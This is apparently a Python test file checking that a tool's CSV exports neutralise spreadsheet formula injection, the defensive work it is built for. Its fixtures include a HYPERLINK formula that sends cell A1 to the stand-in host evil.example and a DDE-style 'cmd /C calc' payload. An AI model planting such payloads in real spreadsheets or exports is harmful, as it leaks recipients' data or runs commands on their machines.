"""CSV formula injection (issue 15, probe 6): every CSV riskgraph writes for people neutralises
cells a spreadsheet would run as formulas (OWASP), and leaves real numbers alone."""

from __future__ import annotations

import csv
import datetime as dt

from hypothesis import given
from hypothesis import strategies as st

from fixtures.aid import load_case, person_id, write_dataset
from loaders.csv_cells import FORMULA_STARTS, safe_cell, safe_frame

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
EVIL_REJECT = "@SUM(1+1)*cmd|' /C calc'!A0"


@given(st.text())
def test_no_cell_starts_a_formula(text):
    out = safe_cell(text)
    assert out == text or out == "'" + text
    if out != text:
        assert text.startswith(FORMULA_STARTS)
    else:
        try:
            float(text)
            is_number = True
        except ValueError:
            is_number = False
        assert not text.startswith(FORMULA_STARTS) or is_number


@given(
    st.one_of(
        st.integers(),
        st.floats(allow_nan=False, allow_infinity=False),
        st.decimals(allow_nan=False, allow_infinity=False),
    )
)
def test_numbers_stay_numbers(value):
    assert safe_cell(value) == value
    assert safe_cell(str(value)) == str(value)


def test_frames_keep_numeric_columns():
    import pandas as pd

    frame = pd.DataFrame({"name": ["=1+1", "+86 138", "-", "李四"], "amount": [-5.0, 1, 2, 3]})
    out = safe_frame(frame)
    assert out["name"].tolist() == ["'=1+1", "'+86 138", "'-", "李四"]
    assert out["amount"].tolist() == [-5.0, 1, 2, 3]
    assert frame["name"].iloc[0] == "=1+1"  # the caller's frame is left as it was


def _cells(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_scan_csvs_never_carry_a_formula(tmp_path):
    """A recipient named like a formula dies and is paid on; a rejected row carries another:
    flags.csv and rejects/*.csv hold them as text, amounts as numbers."""
    from api.scan.pipeline import scan_dataset
    from graph_models.memory_store import MemoryStore

    case = load_case("deceased_recipient")
    zhang = person_id("zhang")
    for row in case["tables"]["persons"]:
        if row["person_id"] == zhang:
            row["name"] = EVIL
    case["tables"]["persons"].append(
        {"person_id": "not-an-id", "name": EVIL_REJECT, "household_id": "H1", "relation": "child"}
    )
    case["tables"]["aid_payments"].append(
        {"payment_id": "PX", "program": "低保", "recipient_id": zhang, "household_id": "H1",
         "account_no": "6222020200112233441", "amount": "-600", "paid_date": "not a date",
         "region_code": "410822"}
    )  # fmt: skip
    dataset = write_dataset(case, tmp_path / "ds")
    out = tmp_path / "out"
    scan_dataset(MemoryStore(), out, dataset, as_of=dt.date(2024, 1, 1))
    flags = _cells(out / "flags.csv")
    assert any(c.startswith("'" + EVIL) for c in flags), "the explanation starts with the name"
    rejects = [c for p in sorted((out / "rejects").glob("*.csv")) for c in _cells(p)]
    assert "'" + EVIL_REJECT in rejects and "-600" in rejects
    for cell in flags + rejects:
        assert not cell.startswith(FORMULA_STARTS) or cell == "-600", cell
